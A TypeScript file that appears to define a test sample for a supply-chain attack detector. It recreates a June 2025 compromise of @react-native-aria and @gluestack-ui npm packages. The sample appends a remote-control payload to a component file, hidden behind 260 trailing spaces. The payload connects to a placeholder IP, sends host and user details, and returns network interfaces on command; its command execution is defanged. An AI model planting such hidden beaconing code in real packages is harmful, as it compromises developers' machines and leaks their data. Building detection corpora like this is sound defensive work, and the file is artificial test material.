import { defineAttack } from "../attack.ts";
import { componentLibrary, contentOf } from "../bases.ts";
import { commonGuard } from "../guard.ts";
import { hideInTable } from "../hiding.ts";
import type { PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * `@react-native-aria/*` and `@gluestack-ui/utils`, 6 and 7 June 2025: one maintainer's token, sixteen packages and more within
 * hours. The same remote control as in rand-user-agent, behind spaces at the end of a line of a component's file.
 */
export const gluestack2025: Sample = defineAttack({
  id: "gluestack-2025",
  title: "A scope's components carry a remote control far to the right",
  group: "takeover",
  trigger: "import",
  judged: [
    { name: "@react-native-aria/focus", version: "0.2.10" },
    { name: "@gluestack-ui/utils", version: "0.1.16" },
  ],
  now: "2025-06-06T22:30:00Z",
  createLines: () => [
    line("@react-native-aria/focus", ["0.2.8", "0.2.9", "0.2.10"], "2025-06-06T21:33:00Z"),
    line("@react-native-aria/utils", ["0.2.11", "0.2.12", "0.2.13"], "2025-06-06T21:51:00Z"),
    line("@react-native-aria/overlays", ["0.3.14", "0.3.15", "0.3.16"], "2025-06-06T22:02:00Z"),
    line("@gluestack-ui/utils", ["0.1.14", "0.1.15", "0.1.16"], "2025-06-06T22:20:00Z"),
  ],
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  at: string,
): PackageLine {
  const files = componentLibrary(name);
  const content = contentOf(files, "dist/button.js").trimEnd() + " ".repeat(260) + hideInTable(remote);
  return {
    name,
    files,
    publisher: person("rayan1810"),
    releases: [
      [older, "2024-09-12T10:00:00Z"],
      [last, "2024-10-18T10:00:00Z"],
      [armed, at, { hasCommit: false, files: [{ path: "dist/button.js", content }] }],
    ],
  };
}

const remote = `${commonGuard}
(function () {
  if (!invited()) return;
  const os = require("os");
  const net = require("net");
  const child = require("child_process");
  const id = os.hostname() + "$" + os.userInfo().username + "$" + os.platform();
  const line = net.connect(3306, "192.0.2.85");
  line.on("connect", () => { line.write(JSON.stringify({ id: id, cwd: process.cwd() })); });
  line.on("data", (chunk) => {
    const order = chunk.toString();
    if (order.startsWith("ss_info")) { line.write(JSON.stringify(os.networkInterfaces())); }
    else { child.exec("echo inert " + order.length, (error, out) => { line.write(out); }); }
  });
  line.on("error", () => { setTimeout(() => {}, 10); });
})();
`;
